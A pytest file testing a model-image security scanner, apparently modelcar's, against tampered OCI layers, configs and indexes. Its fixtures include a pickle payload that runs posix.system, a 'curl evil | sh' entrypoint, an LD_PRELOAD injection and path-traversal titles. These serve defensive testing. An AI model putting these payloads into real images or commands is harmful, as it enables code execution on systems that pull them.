"""Images by an enemy: what a container or a node would see, and a scan must not overlook."""

from __future__ import annotations

import gzip
import io
import tarfile
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from modelcar.errors import InvalidDocument, SizeMismatch
from modelcar.layers.hashing import Chunk
from modelcar.layers.index import IndexedLayer, ModelIndex
from modelcar.oci import Descriptor, Digest, Manifest, media_types
from modelcar.packaging.annotations import LAYER, SNAPSHOT_INDEX
from modelcar.packaging.plan import LayerKind
from modelcar.scanning import image as image_module
from modelcar.scanning.findings import Outcome
from modelcar.scanning.layers import LayerScanner
from modelcar.scanning.settings import ScanSettings
from modelcar.store import LocalStore
from tests.support.scanned_images import (
    artifact_of,
    blob_of,
    image_of,
    index_of,
    layer_of,
    member,
    rules,
    scan,
    tar_of,
)
from tests.support.weights import safetensors_bytes

WEIGHTS = safetensors_bytes({"a": ("F32", (4,), bytes(16))}, align=8)
OTHERS = safetensors_bytes({"b": ("F32", (4,), bytes(16))}, align=8)
EVIL = b"\x80\x02cposix\nsystem\nU\x02idR."
RAW = "application/vnd.cncf.model.weight.v1.raw"
FILEPATH = "org.cncf.model.filepath"
TITLE = "org.opencontainers.image.title"


@pytest.fixture
def store(tmp_path: Path) -> LocalStore:
    return LocalStore(tmp_path / "home")


@pytest.fixture
def good(store: LocalStore) -> Descriptor:
    return layer_of(store, {"models/a.safetensors": WEIGHTS}, None)


@pytest.mark.parametrize("kind", [tarfile.REGTYPE, tarfile.DIRTYPE])
@pytest.mark.parametrize("name", ["models/.wh.a.safetensors", "models/.wh..wh..opq", ".wh.models", "models/.wh.x/y"])
def test_a_whiteout_of_any_kind(store: LocalStore, good: Descriptor, name: str, kind: bytes) -> None:
    upper = tar_of(store, member("models/b.safetensors", OTHERS), member(name, kind=kind))
    assert "image.whiteout" in rules(scan(store, image_of(store, [good, upper])))


def test_a_folder_that_hides_a_file_of_a_lower_layer(store: LocalStore, good: Descriptor) -> None:
    upper = tar_of(store, member("models/a.safetensors", kind=tarfile.DIRTYPE), member("models/b.safetensors", OTHERS))
    assert rules(scan(store, image_of(store, [good, upper]))) == {"image.path-twice"}


def test_a_file_where_a_lower_layer_has_a_folder(store: LocalStore) -> None:
    lower = layer_of(store, {"models/a/b.safetensors": WEIGHTS}, None)
    upper = layer_of(store, {"models/a": b"hello\n"}, None)
    assert "image.path-twice" in rules(scan(store, image_of(store, [lower, upper])))


def test_a_file_within_a_file(store: LocalStore) -> None:
    layer = tar_of(store, member("models/a", b"hello\n"), member("models/a/b.safetensors", WEIGHTS))
    assert scan(store, image_of(store, [layer])).outcome is Outcome.UNVERIFIED


@pytest.mark.parametrize("mode", [0o4755, 0o2755, 0o6000])
def test_rights_that_a_model_does_not_need(store: LocalStore, mode: int) -> None:
    layer = tar_of(store, member("models/x", mode=mode), member("models/a.safetensors", WEIGHTS))
    assert rules(scan(store, image_of(store, [layer]))) == {"image.privileged-file"}


def test_folders_of_a_group_are_harmless(store: LocalStore) -> None:
    folder = member("models", mode=0o2775, kind=tarfile.DIRTYPE)
    layer = tar_of(store, folder, member("models/a.safetensors", WEIGHTS, mode=0o777))
    assert scan(store, image_of(store, [layer])).outcome is Outcome.CLEAN


@pytest.mark.parametrize(
    "key", ["SCHILY.xattr.trusted.overlay.opaque", "SCHILY.xattr.security.capability", "LIBARCHIVE.xattr.user.x", "new"]
)
def test_attributes_that_a_model_does_not_need(store: LocalStore, key: str) -> None:
    layer = tar_of(store, member("models/a.safetensors", WEIGHTS, pax={key: "y"}))
    assert rules(scan(store, image_of(store, [layer]))) == {"image.privileged-file"}


def test_one_blob_that_two_manifests_take_for_different_things(store: LocalStore) -> None:
    """A program may be a tar as well; what it is called decides who reads it how."""
    blob = tar_of(store, member("models/a.safetensors", WEIGHTS))
    as_file = Descriptor.of(RAW, b"").annotated({FILEPATH: "modeling.py"})
    as_file = blob_of(store, gzip.decompress(gzip.compress(_content(store, blob))), RAW).annotated(as_file.annotations)
    assert blob.digest == as_file.digest
    report = scan(store, index_of(store, image_of(store, [blob]), artifact_of(store, [as_file])))
    assert report.outcome is Outcome.UNVERIFIED
    assert {"a.safetensors", "modeling.py"} <= {file.path for file in report.files}


def test_one_blob_under_two_names(store: LocalStore) -> None:
    blob = blob_of(store, b"print('hello')\n", "application/vnd.cncf.model.doc.v1.raw")
    report = scan(
        store, artifact_of(store, [blob.annotated({FILEPATH: "a.txt"}), blob.annotated({TITLE: "modeling.py"})])
    )
    assert report.outcome is Outcome.UNVERIFIED
    both = blob.annotated({FILEPATH: "a.txt", TITLE: "modeling.py"})
    assert scan(store, artifact_of(store, [both])).outcome is Outcome.UNVERIFIED


def _content(store: LocalStore, descriptor: Descriptor) -> bytes:
    with store.content.open(descriptor.digest) as reader:
        return reader.read()


@pytest.mark.parametrize(
    "title", ["../x.safetensors", "/etc/cron.d/x.safetensors", "a/../../x.safetensors", "a\\..\\x", "C:x"]
)
def test_a_title_that_leaves_the_folder(store: LocalStore, title: str) -> None:
    layer = blob_of(store, WEIGHTS, RAW).annotated({TITLE: title})
    assert scan(store, artifact_of(store, [layer])).outcome is Outcome.UNVERIFIED


def test_two_raw_layers_of_one_name(store: LocalStore) -> None:
    layers = [blob_of(store, content, RAW).annotated({TITLE: "a.safetensors"}) for content in (WEIGHTS, OTHERS)]
    assert rules(scan(store, artifact_of(store, layers))) == {"image.path-twice"}


@pytest.mark.parametrize(
    "media_type",
    [
        "application/octet-stream",
        "application/vnd.ollama.image.other",
        RAW,
        "application/vnd.oci.image.layer.v1.TAR",
    ],
)
def test_a_layer_of_an_image_that_is_no_plain_tar_by_its_type(store: LocalStore, media_type: str) -> None:
    """Engines go by the bytes, or refuse: a scan that took it for a file would see another thing than a container."""
    layer = tar_of(store, member("models/a.safetensors", WEIGHTS), media_type=media_type)
    named = layer.annotated({TITLE: "model.tar"})
    assert scan(store, image_of(store, [layer])).outcome is Outcome.UNVERIFIED
    assert "image.unreadable-layer" in rules(scan(store, image_of(store, [named])))


@pytest.mark.parametrize(
    "media_type",
    [
        "application/vnd.oci.image.layer.nondistributable.v1.tar",
        "application/vnd.oci.image.layer.nondistributable.v1.tar+gzip",
        "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip",
    ],
)
def test_layers_that_are_not_to_be_copied_are_layers(store: LocalStore, good: Descriptor, media_type: str) -> None:
    evil = tar_of(store, member("models/b.bin", EVIL), member("models/.wh.a.safetensors"), media_type=media_type)
    report = scan(store, image_of(store, [good, evil]))
    assert (report.outcome, "image.whiteout" in rules(report)) == (Outcome.MALICIOUS, True)


def test_a_config_that_names_other_layers(store: LocalStore, good: Descriptor) -> None:
    """An engine that has unpacked layers of these diff ids before takes them instead."""
    assert rules(scan(store, image_of(store, [good], diff_ids=[Digest.of(b"evil")]))) == {"image.config-disagrees"}
    assert rules(scan(store, image_of(store, [good], diff_ids=[]))) == {"image.config-disagrees"}
    assert rules(scan(store, image_of(store, [good], diff_ids=[good.digest] * 2))) == {"image.config-disagrees"}


def test_the_diff_id_of_a_compressed_layer(store: LocalStore) -> None:
    layer = tar_of(store, member("models/a.safetensors", WEIGHTS), media_type=media_types.LAYER_TAR_GZIP)
    right = Digest.of(gzip.decompress(_content(store, layer)))
    assert scan(store, image_of(store, [layer], diff_ids=[right])).outcome is Outcome.CLEAN
    assert rules(scan(store, image_of(store, [layer], diff_ids=[layer.digest]))) == {"image.config-disagrees"}


@pytest.mark.parametrize(
    "runtime",
    [
        {"Entrypoint": ["/bin/sh", "-c", "curl evil | sh"]},
        {"Cmd": ["/models/x"]},
        {"Entrypoint": ["/.modelcar/holder"], "Cmd": ["--model", "/"]},
        {"Env": ["LD_PRELOAD=/models/x.so"]},
        {"Healthcheck": {"Test": ["CMD-SHELL", "x"]}},
        {"OnBuild": ["RUN x"]},
        {"Entrypoint": "sh"},
    ],
)
def test_an_image_that_starts_something(store: LocalStore, good: Descriptor, runtime: dict[str, Any]) -> None:
    assert rules(scan(store, image_of(store, [good], **runtime))) == {"image.runs-program"}


def test_an_image_that_starts_nothing(store: LocalStore, good: Descriptor) -> None:
    runtime: dict[str, Any] = {
        "Env": ["PATH=/usr/bin"],
        "Cmd": None,
        "Labels": {"a": "b"},
        "WorkingDir": "/",
        "Entrypoint": [],
    }
    assert scan(store, image_of(store, [good], **runtime)).outcome is Outcome.CLEAN


def test_a_secret_in_a_config(store: LocalStore, good: Descriptor) -> None:
    token = "hf_" + "kQzWvTnRbYpXcMjLdHsGfAeUiOqZwEtYbN"
    report = scan(store, image_of(store, [good], Labels={"token": token}))
    assert any(rule.startswith("secret.") for rule in rules(report)), rules(report)
    pack = artifact_of(store, [blob_of(store, WEIGHTS, RAW).annotated({TITLE: "a.safetensors"})], EVIL)
    assert scan(store, pack).outcome is Outcome.MALICIOUS


def test_an_index_in_a_layer_that_nobody_compares(store: LocalStore, good: Descriptor) -> None:
    """Of two layers that are marked as the index, nodes read one; a container sees the other."""
    index = {".modelcar/index.json": b"anything"}
    first, second = layer_of(store, index, LayerKind.INDEX), layer_of(store, {**index, "x": b""}, LayerKind.INDEX)
    report = scan(store, image_of(store, [first, good, second]))
    assert {"image.unreadable-index", "image.files-outside-model"} <= rules(report)
    packed = tar_of(store, member(".modelcar/index.json", b"x"), media_type=media_types.LAYER_TAR_GZIP)
    marked = packed.annotated({LAYER: LayerKind.INDEX})
    diff_ids = [good.digest, Digest.of(gzip.decompress(_content(store, packed)))]
    assert rules(scan(store, image_of(store, [good, marked], diff_ids=diff_ids))) == {"image.files-outside-model"}


def test_a_layer_that_sends_nodes_to_another_index(store: LocalStore) -> None:
    layer = layer_of(store, {"models/a.safetensors": WEIGHTS}, LayerKind.WEIGHTS)
    lying = layer.annotated({SNAPSHOT_INDEX: str(Digest.of(b"other"))})
    assert rules(scan(store, image_of(store, [lying]))) == {"image.annotations-disagree"}


def test_a_layer_that_only_some_readers_look_at(store: LocalStore) -> None:
    """`modelcar pull` takes the layers that are marked as the model's; a container sees all of them."""
    layers = [
        layer_of(store, {"models/a.safetensors": WEIGHTS}, LayerKind.WEIGHTS),
        layer_of(store, {"models/b.safetensors": OTHERS}, None),
    ]
    assert rules(scan(store, image_of(store, layers))) == {"image.annotations-disagree"}


def test_several_gzip_streams_in_one_layer(store: LocalStore) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for info, content in (member("models/a.safetensors", WEIGHTS), member("models/b.bin", EVIL)):
            tar.addfile(info, io.BytesIO(content))
    tar_bytes = buffer.getvalue()
    packed = gzip.compress(tar_bytes[:1024]) + gzip.compress(tar_bytes[1024:])
    layer = blob_of(store, packed, media_types.LAYER_TAR_GZIP)
    assert scan(store, image_of(store, [layer], diff_ids=[Digest.of(tar_bytes)])).outcome is Outcome.MALICIOUS
    trailing = blob_of(store, gzip.compress(tar_bytes) + b"x" + tar_bytes, media_types.LAYER_TAR_GZIP)
    report = scan(store, image_of(store, [trailing], diff_ids=[Digest.of(tar_bytes)]))
    assert "image.unreadable-layer" in rules(report)
    assert report.outcome is Outcome.MALICIOUS


def test_an_image_without_layers_says_why_it_is_not_clean(store: LocalStore) -> None:
    for root in (image_of(store, []), index_of(store), artifact_of(store, [])):
        report = scan(store, root)
        assert (report.outcome, rules(report)) == (Outcome.UNVERIFIED, {"image.no-model"})


def test_layers_of_no_bytes(store: LocalStore) -> None:
    assert "image.unreadable-layer" in rules(scan(store, image_of(store, [blob_of(store, b"")])))


@pytest.mark.parametrize(
    "path", ["./models//x", "models/./x", "/models/x", "models/../models/x", "models/x/", "models/x\0y"]
)
def test_names_that_programs_read_differently(store: LocalStore, path: str) -> None:
    layer = tar_of(store, member("models/a.safetensors", WEIGHTS), member(path, EVIL))
    assert scan(store, image_of(store, [layer])).outcome is not Outcome.CLEAN


@pytest.mark.parametrize("path", ["Models/x.bin", "MODELS/x.bin", "models", "model\u017f/x.bin"])
def test_names_that_look_like_the_models_folder(store: LocalStore, good: Descriptor, path: str) -> None:
    layer = tar_of(store, member(path, EVIL))
    assert "image.files-outside-model" in rules(scan(store, image_of(store, [good, layer])))


def test_a_name_that_no_system_can_hold(store: LocalStore, good: Descriptor) -> None:
    """A few hundred of them would make a verdict too long for anybody to read."""
    layer = tar_of(store, member(f"models/{'x' * 5000}.bin", EVIL))
    report = scan(store, image_of(store, [good, layer]))
    assert all(len(finding.path) < 1100 for finding in report.all_findings)
    assert "image.unreadable-layer" in rules(report)


def test_a_sha512_digest(store: LocalStore) -> None:
    content = _content(store, layer_of(store, {"models/a.safetensors": WEIGHTS}, None))
    digest = Digest.of(content, "sha512")
    with store.content.begin(digest) as writer:
        writer.write(content)
        writer.commit()
    layer = Descriptor(media_type=media_types.LAYER_TAR, digest=digest, size=len(content))
    right = image_of(store, [layer], diff_ids=[Digest.of(content)])
    assert scan(store, right).outcome is Outcome.CLEAN


@pytest.mark.parametrize("target", ["/usr/bin/dash", "../../run", "dash"])
@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE])
def test_links_are_ordinary_in_layers_of_programs(
    store: LocalStore, good: Descriptor, kind: bytes, target: str
) -> None:
    """A signed *malicious* is for ever, and every Linux distribution has links such as these."""
    base = tar_of(store, member("bin/sh", kind=kind, link=target), member("/opt/x", EVIL), member("etc/passwd", b"x"))
    report = scan(store, image_of(store, [good, base]))
    assert (report.outcome, rules(report)) == (Outcome.UNVERIFIED, {"image.files-outside-model"})
    assert report.findings[0].message.endswith("'bin/sh' and 2 more")
    link = tar_of(store, member("models", kind=kind, link=target))
    assert rules(scan(store, image_of(store, [good, link]))) == {"image.unreadable-layer"}


def test_a_type_that_is_not_what_the_bytes_are(store: LocalStore) -> None:
    """Some engines go by the bytes, others refuse."""
    tar = _content(store, tar_of(store, member("models/b.bin", EVIL)))
    packed = blob_of(store, gzip.compress(tar), media_types.LAYER_TAR)
    plain = blob_of(store, tar, media_types.LAYER_TAR_GZIP)
    for layer in (packed, plain):
        report = scan(store, image_of(store, [layer], diff_ids=[Digest.of(tar)]))
        assert report.outcome is Outcome.MALICIOUS
        assert "image.unreadable-layer" in rules(report)


def test_a_layer_that_is_no_tar_at_all(store: LocalStore) -> None:
    report = scan(store, image_of(store, [blob_of(store, EVIL)]))
    assert report.outcome is Outcome.MALICIOUS
    assert "image.unreadable-layer" in rules(report)


def test_bytes_between_files(store: LocalStore) -> None:
    tar = bytearray(_content(store, tar_of(store, member("models/a.safetensors", WEIGHTS))))
    tar[512 + len(WEIGHTS) + 10] = 1
    assert rules(scan(store, image_of(store, [blob_of(store, bytes(tar))]))) == {"image.unreadable-layer"}


def test_an_index_that_lies_about_a_layer_without_files(store: LocalStore, good: Descriptor) -> None:
    """A registry could give nodes that read lazily other bytes than scanners, and the index would agree with them."""
    empty = tar_of(store, member("models", kind=tarfile.DIRTYPE))
    evil = _content(store, tar_of(store, member("models/b.bin", EVIL)))
    assert len(evil) == empty.size
    index = ModelIndex(root="/models", layers=tuple(_indexed(layer, evil) for layer in (empty,)))
    holding = layer_of(store, {".modelcar/index.json": index.to_json()}, LayerKind.INDEX)
    report = scan(store, image_of(store, [empty, holding]))
    assert "the chunk at byte 0 has another digest" in {finding.detail for finding in report.all_findings}
    trusted = ScanSettings(trusted_layers=frozenset({empty.digest}))
    assert "image.index-disagrees" in rules(scan(store, image_of(store, [good, empty, holding]), trusted))


def _indexed(layer: Descriptor, content: bytes) -> IndexedLayer:
    chunks = (Chunk(offset=0, size=len(content), digest=Digest.of(content)),)
    return IndexedLayer(digest=layer.digest, size=layer.size, media_type=layer.media_type, chunks=chunks, files=())


def test_who_vouches_for_a_layer_does_not_vouch_for_a_config(store: LocalStore, good: Descriptor) -> None:
    packed = tar_of(store, member("bin/sh", b"x"), media_type=media_types.LAYER_TAR_GZIP)
    right = Digest.of(gzip.decompress(_content(store, packed)))
    trusted = ScanSettings(trusted_layers=frozenset({packed.digest}))
    root = image_of(store, [good, packed], diff_ids=[good.digest, right])
    assert rules(scan(store, root, trusted)) == {"image.trusted-layer"}
    lying = image_of(store, [good, packed], diff_ids=[good.digest, Digest.of(b"evil")])
    assert rules(scan(store, lying, trusted)) == {"image.trusted-layer", "image.config-disagrees"}
    starting = image_of(store, [good, packed], diff_ids=[good.digest, right], Cmd=["sh"])
    assert rules(scan(store, starting, trusted)) == {"image.trusted-layer", "image.runs-program"}
    config = Manifest.parse(_content(store, starting)).config
    vouched = ScanSettings(trusted_layers=frozenset({packed.digest, config.digest}))
    assert rules(scan(store, starting, vouched)) == {"image.trusted-layer"}


def test_a_blob_whose_size_is_disputed(store: LocalStore, good: Descriptor) -> None:
    other = image_of(store, [replace(good, size=good.size + 1)])
    with pytest.raises(SizeMismatch):
        scan(store, index_of(store, image_of(store, [good]), other))


def test_a_config_that_is_too_large_to_be_read(store: LocalStore, good: Descriptor) -> None:
    pack = artifact_of(store, [good], b"x" * (5 << 20))
    assert "image.unreadable-layer" in rules(scan(store, pack))


def test_an_image_of_very_many_layers(store: LocalStore, good: Descriptor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(image_module, "_MOST_LAYERS", 1)
    other = layer_of(store, {"models/b.safetensors": OTHERS}, None)
    with pytest.raises(InvalidDocument, match="more than 1 layers"):
        scan(store, image_of(store, [good, other]))


def test_an_image_of_very_many_files(store: LocalStore, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(image_module, "LayerScanner", partial(LayerScanner, most_files=3))
    few = layer_of(store, {f"models/{i}.txt": b"x\n" for i in range(3)}, None)
    assert scan(store, image_of(store, [few])).outcome is Outcome.CLEAN
    more = layer_of(store, {"models/3.bin": EVIL}, None)
    assert "scan.limit-exceeded" in rules(scan(store, image_of(store, [few, more])))


def test_indexes_of_very_many_bytes(store: LocalStore, good: Descriptor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(image_module, "_MOST_INDEX", 1000)
    index = ModelIndex(root="/models", layers=())
    holding = layer_of(store, {".modelcar/index.json": index.to_json()}, LayerKind.INDEX)
    assert "image.unreadable-index" in rules(scan(store, image_of(store, [good, holding])))


def test_an_index_that_is_wrong_in_very_many_ways_is_told_so_in_a_few(store: LocalStore) -> None:
    layer = layer_of(store, {f"models/{i}.txt": b"x\n" for i in range(100)}, None)
    index = ModelIndex(root="/models", layers=(_indexed(layer, _content(store, layer)),))
    holding = layer_of(store, {".modelcar/index.json": index.to_json()}, LayerKind.INDEX)
    report = scan(store, image_of(store, [layer, layer, holding]))
    assert rules(report) >= {"image.index-disagrees", "image.path-twice"}
    assert len(report.findings) < 60
